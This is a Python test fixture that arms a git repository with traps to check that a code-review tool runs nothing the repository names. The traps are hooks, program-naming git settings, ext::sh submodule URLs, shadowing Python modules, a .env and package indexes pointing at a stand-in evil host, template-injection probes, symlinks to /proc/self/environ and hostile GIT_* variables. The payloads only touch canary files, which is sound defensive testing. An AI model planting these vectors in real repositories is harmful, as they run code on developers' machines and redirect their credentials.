"""A stranger's repository that tries everything: each program its git settings can name, each file they can be led to, each trap for Python.

`lay_traps` arms a repository that exists. Each program touches a file in `canaries` that is named after the key that named it, so a test
can tell whether anything ran, and what. `OUTSIDE` stands in files beside the repository, to which links, settings and entries lead.
"""

from __future__ import annotations

import hashlib
import os
import stat
import subprocess
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

OUTSIDE = "outside-e7c41d90b2"
"""A word that stands in no file of the repository: where it turns up, something beside the repository was read."""
_HOOKS = (
    *("fsmonitor-watchman", "post-index-change", "reference-transaction", "pre-commit", "post-checkout", "post-merge"),
    *("pre-auto-gc", "update", "pre-receive", "post-rewrite", "proc-receive", "post-update"),
)
_MODULES = (
    *("httpx2", "anthropic", "git", "click", "jinja2", "yaml", "re2", "ruff", "encodings", "sitecustomize", "usercustomize"),
    *("reviewer/__init__", "reviewer/__main__", "reviewer/cli", "conftest", "setup", "templates/__init__"),
)


@dataclass(frozen=True)
class Armed:
    """A repository with everything set, and where it shows that something sprang."""

    root: Path
    canaries: Path
    outside: Path

    def sprung(self) -> list[str]:
        """What ran, or was written, since the last `calm`."""
        return sorted(path.name for path in self.canaries.iterdir())

    def calm(self) -> None:
        """Forget what ran, and what was read: a file whose time of reading is before its time of change gets a new one when it is read."""
        for path in self.canaries.iterdir():
            path.unlink()
        for path in self._outside_files():
            os.utime(path, (1, 2))

    def read(self) -> list[str]:
        """Files beside the repository that were read since the last `calm`."""
        return sorted(path.name for path in self._outside_files() if path.stat().st_atime != 1)

    def state(self) -> dict[str, tuple[int, bytes]]:
        """Every file of the repository and of its git folder, with its time and content.

        The time of an object is left out: git gives one a new date when it would write the same object again.
        """
        files = {path: path.lstat() for path in sorted(self.root.rglob("*"))}
        return {
            str(path.relative_to(self.root)): (0 if "objects" in path.parts else status.st_mtime_ns, path.read_bytes())
            for path, status in files.items()
            if stat.S_ISREG(status.st_mode)
        }

    def _outside_files(self) -> list[Path]:
        return sorted(path for path in self.outside.rglob("*") if path.is_file())


def traps_of_python(canaries: Path) -> dict[str, str]:
    """Files that run, or steer, whoever imports, builds, configures or starts the wrong thing."""
    spring = "import pathlib\npathlib.Path({!r}).touch()\n"
    return {
        **{f"{name}.py": spring.format(str(canaries / f"python-{name.replace('/', '.')}")) for name in _MODULES},
        ".env": f"ANTHROPIC_BASE_URL=https://evil.example.invalid\nANTHROPIC_API_KEY={OUTSIDE}\n",
        "uv.toml": 'index-url = "https://evil.example.invalid/simple"\n',
        "pyproject.toml": '[tool.uv]\nindex-url = "https://evil.example.invalid/simple"\n[build-system]\nrequires = ["evil"]\n',
        "ruff.toml": 'extend = "../outside/ruff.toml"\n',
        "pip.conf": "[global]\nindex-url = https://evil.example.invalid/simple\n",
        "templates/prompt/system.md.j2": "{{ ''.__class__.__mro__ }}\n",
        "templates/report/report.md.j2": "{{ ''.__class__.__mro__ }}\n",
        ".gitattributes": "* diff=evil merge=evil ident export-subst linguist-generated=false\n*.md !diff\n*.dat filter=evil\n*.raw filter=spoken\n",
        ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch% x\n\tignore = none\n',
        ".lfsconfig": "[lfs]\n\turl = https://evil.example.invalid\n",
    }


def lay_traps(root: Path, canaries: Path, outside: Path) -> Armed:
    """Arm the repository at `root`, whose commits are made already, and everything around it."""
    canaries.mkdir()
    outside.mkdir()
    for name in ("private.txt", "ruff.toml", "attributes", "ignore", "config", "worktree.txt"):
        (outside / name).write_text(f"# {OUTSIDE} {name}\n")
    _hooks(root / ".git" / "hooks", canaries, "hook")
    _hooks(root / "named-hooks", canaries, "named-hook")
    for key, value in _settings(root, canaries, outside).items():
        subprocess.run(["git", "config", "--add", key, value], cwd=root, check=True, capture_output=True)
    _within_git(root, outside, canaries)
    (root / "link.py").symlink_to(outside / "private.txt")
    (root / "folder").symlink_to(outside)
    (root / "up.py").symlink_to("../outside/private.txt")
    (root / "self.py").symlink_to("/proc/self/environ")
    os.mkfifo(root / "pipe.py")
    armed = Armed(root, canaries, outside)
    armed.calm()
    return armed


def _hooks(folder: Path, canaries: Path, kind: str) -> None:
    folder.mkdir(exist_ok=True)
    for hook in _HOOKS:
        (folder / hook).write_text(f"#!/bin/sh\ntouch '{canaries}/{kind}-{hook}'\n")
        (folder / hook).chmod(0o755)


def _settings(root: Path, canaries: Path, outside: Path) -> dict[str, str]:
    """Every setting of git that names a program, a file to write or a file elsewhere, as far as a repository can hold it."""

    def touch(name: str) -> str:
        return f"touch '{canaries}/{name}'"

    programs = {
        **{f"core.{name}": f"{touch(name)}; false" for name in ("fsmonitor", "sshCommand", "gitProxy", "askPass", "editor")},
        "core.pager": f"{touch('pager')}; cat",
        "core.alternateRefsCommand": f"{touch('alternate-refs')} #",
        "pager.log": f"{touch('pager-log')}; cat",
        "sequence.editor": touch("sequence-editor"),
        "interactive.diffFilter": touch("diff-filter"),
        "credential.helper": f"!{touch('credential')}",
        "diff.external": touch("diff-external"),
        "diff.evil.command": touch("diff-command"),
        "diff.evil.textconv": f"{touch('textconv')}; cat",
        "diff.evil.cachetextconv": "true",
        "filter.evil.clean": f"{touch('clean')}; cat",
        "filter.evil.smudge": f"{touch('smudge')}; cat",
        "filter.evil.required": "true",
        "filter.spoken.process": f"{touch('process')}; false",
        "merge.evil.driver": touch("merge-driver"),
        "mergetool.evil.cmd": touch("mergetool"),
        "difftool.evil.cmd": touch("difftool"),
        "gpg.program": touch("gpg"),
        "gpg.ssh.program": touch("gpg-ssh"),
        "gpg.ssh.defaultKeyCommand": touch("gpg-key"),
        "alias.ls-files": f"!{touch('alias-ls-files')}",
        "alias.rev-parse": f"!{touch('alias-rev-parse')}",
        "uploadpack.packObjectsHook": touch("pack-objects-hook"),
        "remote.origin.uploadpack": f"{touch('uploadpack')};",
        "remote.origin.receivepack": f"{touch('receivepack')};",
        "remote.origin.proxy": "http://127.0.0.1:9",
        "remote.other.vcs": "evil",
        "remote.third.url": f"ext::sh -c {touch('ext').replace(' ', '% ')}",
        "submodule.x.update": f"!{touch('submodule')}",
        "submodule.x.url": f"ext::sh -c {touch('submodule-url').replace(' ', '% ')}",
        "browser.evil.cmd": touch("browser"),
        "man.evil.cmd": touch("man"),
        "maintenance.auto": "true",
        "gc.auto": "1",
        "gc.autoDetach": "false",
        "fetch.recurseSubmodules": "true",
        "submodule.recurse": "true",
        "status.submoduleSummary": "true",
        "log.showSignature": "true",
    }
    places = {
        "core.hooksPath": str(root / "named-hooks"),
        "core.attributesFile": str(outside / "attributes"),
        "include.path": str(outside / "config"),
        "includeIf.gitdir:/.path": str(outside / "config"),
        "core.untrackedCache": "true",
        "core.splitIndex": "false",
        "trace2.eventTarget": str(canaries / "trace2-event"),
        "trace2.normalTarget": str(canaries / "trace2-normal"),
        "trace2.perfTarget": str(canaries / "trace2-perf"),
        "http.sslKey": str(outside / "private.txt"),
        "http.cookieFile": str(outside / "private.txt"),
        "http.extraHeader": "X-Evil: 1",
        "url.https://evil.example.invalid/.insteadOf": "http",
        "commit.template": str(outside / "private.txt"),
        "blame.ignoreRevsFile": str(outside / "private.txt"),
        "gpg.ssh.allowedSignersFile": str(outside / "private.txt"),
    }
    claims = {
        "core.repositoryFormatVersion": "1",
        "extensions.worktreeConfig": "true",
        "extensions.partialClone": "origin",
        "remote.origin.url": str(outside / "lent.git"),
        "remote.origin.promisor": "true",
        "remote.origin.partialclonefilter": "blob:none",
        "protocol.allow": "always",
        "protocol.ext.allow": "always",
        "safe.directory": "*",
    }
    return {**programs, **places, **claims}


def _within_git(root: Path, outside: Path, canaries: Path) -> None:
    """What git's own folder can hold besides settings: replaced objects, grafts, attributes, objects lent by others, a second config."""
    git_folder = root / ".git"
    (git_folder / "config.worktree").write_text(f"[core]\n\tfsmonitor = touch '{canaries}/worktree-fsmonitor'; false\n")
    (git_folder / "info").mkdir(exist_ok=True)
    (git_folder / "info" / "attributes").write_text("*.py filter=evil diff=evil\n")
    (git_folder / "info" / "grafts").write_text(_ask(root, "rev-parse", "HEAD"))
    (git_folder / "info" / "sparse-checkout").symlink_to(outside / "private.txt")
    replaced = _loose(root, f"def total(items):\n    return '{OUTSIDE} replaced'\n".encode())
    replace = git_folder / "refs" / "replace"
    replace.mkdir()
    (replace / _ask(root, "rev-parse", "HEAD:shop/price.py").strip()).write_text(replaced + "\n")
    lent = outside / "lent.git"
    subprocess.run(["git", "init", "--quiet", "--bare", str(lent)], check=True, capture_output=True)
    subprocess.run(
        ["git", "config", "core.alternateRefsCommand", f"touch '{canaries}/lent-alternate-refs'"], cwd=lent, check=True
    )
    (git_folder / "objects" / "info").mkdir(exist_ok=True)
    (git_folder / "objects" / "info" / "alternates").write_text(f"{lent}/objects\n")
    lost = _ask(root, "rev-parse", "HEAD:lost.bin").strip()
    (git_folder / "objects" / lost[:2] / lost[2:]).unlink()  # what a partial clone would fetch


def _loose(root: Path, content: bytes) -> str:
    done = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=root, input=content, check=True, capture_output=True)
    return done.stdout.decode("ascii").strip()


def _ask(root: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=root, check=True, capture_output=True, text=True, env=_quiet()).stdout


def _quiet() -> dict[str, str]:
    return {**os.environ, "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.fsmonitor", "GIT_CONFIG_VALUE_0": "false"}


def hostile_variables(canaries: Path, outside: Path) -> Mapping[str, str]:
    """GIT_* variables as a careless shell integration would set them from a folder."""
    touch = f"touch '{canaries}/variable-{{}}'; false"
    return {
        **{
            name: touch.format(name.lower())
            for name in ("GIT_SSH_COMMAND", "GIT_EXTERNAL_DIFF", "GIT_PAGER", "GIT_EDITOR", "GIT_ASKPASS", "GIT_PROXY_COMMAND")
        },
        "GIT_DIR": str(outside / "lent.git"),
        "GIT_WORK_TREE": str(outside),
        "GIT_COMMON_DIR": str(outside / "lent.git"),
        "GIT_OBJECT_DIRECTORY": str(outside / "lent.git" / "objects"),
        "GIT_NAMESPACE": "evil",
        "GIT_CONFIG_COUNT": "2",
        "GIT_CONFIG_KEY_0": "core.fsmonitor",
        "GIT_CONFIG_VALUE_0": touch.format("fsmonitor"),
        "GIT_CONFIG_KEY_1": "diff.external",
        "GIT_CONFIG_VALUE_1": touch.format("diff"),
        "GIT_REPLACE_REF_BASE": "refs/heads/",
        "GIT_TEMPLATE_DIR": str(outside),
    }


def forge_entry(root: Path, old: str, new: str) -> None:
    """Rename an entry of the index to something `git add` would refuse; the names are of one length."""
    index = root / ".git" / "index"
    body = index.read_bytes()[:-20]
    assert len(old) == len(new)
    assert old.encode() in body
    body = body.replace(old.encode() + b"\0", new.encode() + b"\0")
    index.write_bytes(body + hashlib.sha1(body).digest())
